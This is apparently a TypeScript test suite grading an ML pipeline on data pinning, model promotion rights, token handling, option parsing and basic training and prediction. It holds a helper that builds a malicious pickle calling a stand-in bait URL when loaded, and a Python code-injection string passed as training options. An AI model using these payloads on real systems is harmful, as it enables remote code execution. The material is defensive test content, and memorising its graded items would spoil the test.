// Public checks of ml-pipeline: what was stored, promoted, run and written down when data, artefacts, options or tokens are somebody else's.
import type { Answer, Build, Call, Judgement, LogEntry, Seen, Step, Surroundings, World } from '../../../../server/labs/index.ts';

export const build: Build = (world) => {
  const shop = makeShop(world);
  const { token, good, version } = shop;
  const { sha256, reveals } = world;
  const poisoned = `${good}"${world.nonce()} lovely",spam\n`;
  const bait = `https://${world.nonce()}.example/ran`;
  const step = (name: string, shows: string, more: Partial<Around>, calls: Call[], judge: (seen: Seen) => Judgement): Step => ({ name, shows, surroundings: around(shop, { pinned: sha256(more.data ?? good), ...more }), calls, judge });
  const row = (text: string, label: string): string => `"${text.replaceAll('"', '""')}",${label}\n`;
  const odd = `text,label\n${row(`__import__('os') is "odd", ünd`, 'ok')}${row('buy buy', 'spam')}${row('fine', 'ok')}`;

  return [
    {
      ...step('other-data', `the address serves other rows than the pinned ones`, { data: poisoned, pinned: sha256(good) }, [call('train', version)], ({ log }) => fails(stored(log) && 'a model trained on rows that nobody reviewed')),
      judge: (_last, acts) => fails(acts.some(({ log }) => stored(log)) && 'a model trained on rows that nobody reviewed'),
      next: () => ({ surroundings: around(shop, { data: `${poisoned}"x",ok\n`, pinned: sha256(good) }), calls: [call('train', version)] }),
    },
    step('artefact-runs-code', 'replace the object of the model in production, wait for a question', { storage: { 'tags/production': version, [`models/${version}`]: pickleThatCalls(bait) } }, [call('predict', 'lovely')], ({ log }) => fails(log.some((entry) => entry.does === 'http.request' && entry.url === bait) && `code of the attacker ran when the model was loaded: it called ${bait}`)),
    step('anybody-promotes', 'promote(<token of a reader>, version)', {}, [call('train', version), call('promote', 't-reader', version)], ({ log }) => fails(promoted(log) && 'production moved by a reader')),
    step('token-in-the-repository', 'git clone …; run it without settings', { env: { REGISTRY_TOKEN: undefined } }, [call('train', version)], ({ log }) => {
      const used = log.find((entry) => entry.does === 'service.call' && entry.service === 'registry');
      return fails(used?.does === 'service.call' && `the registry was called with ${JSON.stringify(used.args[0])}, from a machine that has no token`);
    }),
    step('token-in-the-log', 'read the log of a training', {}, [call('train', version)], ({ printed, answers }) => {
      const line = `${printed}\n${answers.map(({ text }) => text).join('\n')}`.split('\n').find((one) => reveals(one, token));
      return fails(line && `the registry's token, whole or in large part: ${line.slice(0, 200)}`);
    }),
    step('options-are-code', `TRAIN_OPTIONS="__import__('requests').get('${bait}')"`, { env: { TRAIN_OPTIONS: `__import__('requests').get('${bait}') or {}` } }, [call('train', version)], ({ log }) => fails(log.some((entry) => entry.does === 'http.request' && entry.url === bait) && `an option ran as code and called ${bait}`)),
    step('trains-and-serves', 'train, promote by an approver, ask', {}, [call('train', version), call('promote', 't-approver', version), call('predict', shop.okWord), call('predict', shop.spamWord)], ({ answers }) => fails(isLabel(answers[2], 'ok') && isLabel(answers[3], 'spam') ? false : answers.map(({ text }) => text.slice(0, 120)).join(' | '))),
    step('says-how-many-rows', 'train', {}, [call('train', version)], ({ answers: [answer] }) => fails(JSON.stringify(answer?.value) === JSON.stringify({ version, rows: good.trim().split('\n').length - 1 }) ? false : `${answer?.text.slice(0, 200)}`)),
    step('tells-the-registry', 'train', {}, [call('train', version)], ({ log }) => fails(log.some((entry) => entry.does === 'service.call' && entry.service === 'registry' && entry.args[0] === token && entry.args[1] === version) ? log.findIndex(({ does }) => does === 'service.call') < log.findIndex(({ does }) => does === 'storage.put') && 'the registry was told of a model before it was there' : 'the registry was not told, or with another token')),
    // `0` stands in one review only, a spam; without it nothing speaks for spam.
    step('takes-options', 'TRAIN_OPTIONS={"min_count": 2}', { env: { TRAIN_OPTIONS: '{"min_count": 2}' } }, [call('train', version), call('promote', 't-approver', version), call('predict', shop.spamWord), call('predict', '0')], ({ answers }) => fails(answers[0]?.error === undefined && isLabel(answers[2], 'spam') && isLabel(answers[3], 'ok') ? false : answers.map(({ text }) => text.slice(0, 120)).join(' | '))),
    step('odd-texts', 'reviews with quotes, code and umlauts', { data: odd }, [call('train', version), call('promote', 't-approver', version), call('predict', 'buy')], ({ answers }) => fails((answers[0]?.value as { rows?: number } | undefined)?.rows === 3 && isLabel(answers[2], 'spam') ? false : answers.map(({ text }) => text.slice(0, 120)).join(' | '))),
    step('moves-production-on', 'two versions, promoted one after the other', {}, [call('train', 'a'), call('train', 'b'), call('promote', 't-approver', 'a'), call('promote', 't-approver', 'b')], ({ log }) => fails(log.findLast((entry) => entry.does === 'storage.put' && entry.key === 'tags/production')?.does === 'storage.put' && promoted(log) === 'b' ? false : `production is ${promoted(log)}`)),
    step('nothing-in-production', 'ask before anything was promoted', {}, [call('predict', 'x')], ({ answers: [answer] }) => fails(isLabel(answer, null) ? false : `${answer?.text}`)),
  ];
};

type Shop = { token: string; url: string; good: string; version: string; okWord: string; spamWord: string };
type Around = { data: string; pinned: string; env: Record<string, string | undefined>; storage: Record<string, string> };

function makeShop(world: World): Shop {
  const [okWord, spamWord] = [world.nonce(), world.nonce()];
  const rows = Array.from({ length: world.int(3, 6) }, (_, at) => `"${okWord} ${world.nonce()}",ok\n"${spamWord} ${at}",spam\n`);
  return { token: `rg-${world.nonce()}`, url: `https://data.example/${world.nonce()}.csv`, good: `text,label\n${rows.join('')}${rows[0]?.split('\n')[0]}\n`, version: `v${world.int(1, 90)}`, okWord, spamWord };
}

function around({ token, url, good }: Shop, { data = good, pinned, env = {}, storage = {} }: Partial<Around>): Surroundings {
  const all: Record<string, string | undefined> = { DATA_URL: url, DATA_SHA256: pinned, REGISTRY_TOKEN: token, ...env };
  return {
    env: Object.fromEntries(Object.entries(all).filter((pair): pair is [string, string] => pair[1] !== undefined)),
    storage,
    http: [{ url, body: data }, { url: 'https://*', body: '' }],
    services: {
      registry: { announce: [{ returns: true }] },
      tokens: { find: [{ when: ['t-approver'], returns: { id: 'a1', role: 'approver' } }, { when: ['t-reader'], returns: { id: 'r1', role: 'reader' } }, { when: ['t-trainee'], returns: { id: 'r2', role: 'approver-trainee' } }, { returns: null }] },
    },
  };
}

const call = (name: string, ...args: unknown[]): Call => ({ file: 'pipeline.py', function: name, args });
const fails = (got: string | false | undefined): Judgement => (typeof got === 'string' ? { ok: false, got } : { ok: true });
const stored = (log: readonly LogEntry[]): boolean => log.some((entry) => entry.does === 'storage.put' && entry.key.startsWith('models/'));
const promoted = (log: readonly LogEntry[]): string | undefined => {
  const last = log.findLast((entry) => entry.does === 'storage.put' && entry.key === 'tags/production');
  return last?.does === 'storage.put' ? last.text : undefined;
};
const isLabel = (answer: Answer | undefined, label: string | null): boolean => (answer?.value as { label?: unknown } | undefined)?.label === label && answer?.error === undefined;

/** A pickle in protocol 0 that calls one function with one text, in base64 as the pipeline keeps its models. */
const pickleThatCalls = (url: string): string => btoa(`crequests\nget\n(V${url}\ntR.`);
